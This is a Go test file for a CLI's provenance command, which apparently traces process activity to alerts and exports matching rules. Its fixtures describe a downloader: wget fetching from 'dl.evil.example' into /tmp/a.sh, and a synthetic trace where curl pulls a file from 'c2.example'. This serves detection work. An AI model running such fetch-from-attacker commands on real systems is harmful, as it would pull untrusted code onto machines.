package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

const seedTrace = "../../proctree/provenance/testdata/seed002.jsonl"
const seedRules = "../../proctree/provenance/testdata/seed002-rules.json"

func TestProvenanceCLI(t *testing.T) {
	ruleFile := filepath.Join(t.TempDir(), "rule.json")
	code, out, errs := runCLI(t, "provenance", "-alert", "n5", "-rules", seedRules, "-export-rule", ruleFile, seedTrace)
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errs)
	}
	var g struct {
		Alert string `json:"alert"`
		Nodes []struct {
			Type, Name string
		} `json:"nodes"`
	}
	if err := json.Unmarshal([]byte(out), &g); err != nil || strings.Count(out, "\n") != 1 {
		t.Fatalf("output is not one JSON line: %v\n%s", err, out)
	}
	names := map[string]bool{}
	for _, n := range g.Nodes {
		names[n.Type+" "+n.Name] = true
	}
	for _, want := range []string{"process wget", "domain dl.evil.example", "file /tmp/a.sh", "address 203.0.113.10"} {
		if !names[want] {
			t.Errorf("graph lacks %s", want)
		}
	}
	if names["process mv"] || names["process id"] {
		t.Error("mv/id not dropped")
	}
	for _, o := range []string{"dot", "mermaid", "html"} {
		code, out, errs := runCLI(t, "provenance", "-alert", "740", "-o", o, seedTrace)
		if code != 0 || !strings.Contains(out, "dl.evil.example") {
			t.Errorf("-o %s: exit %d: %s", o, code, errs)
		}
	}
	// The exported rule matches the same trace (here: the origin host).
	code, out, errs = runCLI(t, "provenance", "-match", ruleFile, seedTrace)
	if code != 0 || strings.Count(out, "\n") != 1 || !strings.Contains(out, `"anchor":"n5"`) {
		t.Errorf("-match: exit %d, out %q, err %s", code, out, errs)
	}
}

func TestProvenanceCLIErrors(t *testing.T) {
	// A native trace with a risk event: the alert comes from it.
	dir := t.TempDir()
	trace := filepath.Join(dir, "t.jsonl")
	os.WriteFile(trace, []byte(`{"ts":"2026-11-22T10:00:00Z","type":"fork","pid":100,"ppid":1}
{"ts":"2026-11-22T10:00:01Z","type":"exec","pid":100,"exe":"/usr/bin/curl","argv":["curl","-o","/tmp/x","http://c2.example/x"]}
{"ts":"2026-11-22T10:00:02Z","type":"risk","pid":100,"level":"high","reason":"downloader"}
`), 0o644)
	code, out, errs := runCLI(t, "provenance", trace)
	if code != 0 || !strings.Contains(out, `"name":"c2.example"`) || !strings.Contains(errs, "downloader") {
		t.Errorf("alert from risk event: exit %d, %s %s", code, out, errs)
	}
	for _, c := range []struct {
		args []string
		code int
		msg  string
	}{
		{[]string{"provenance"}, 2, "no trace"},
		{[]string{"provenance", "-o", "xml", trace}, 2, "-o must be"},
		{[]string{"provenance", "-alert", "999", trace}, 1, "not found"},
		{[]string{"provenance", "-rules", trace, trace}, 1, "bad rule"},
		{[]string{"provenance", filepath.Join(dir, "missing")}, 1, "no such file"},
		{[]string{"provenance", seedTrace}, 2, "no risk event"},
	} {
		code, _, errs := runCLI(t, c.args...)
		if code != c.code || !strings.Contains(errs, c.msg) {
			t.Errorf("%v: exit %d (want %d), stderr %q (want %q)", c.args, code, c.code, errs, c.msg)
		}
	}
}
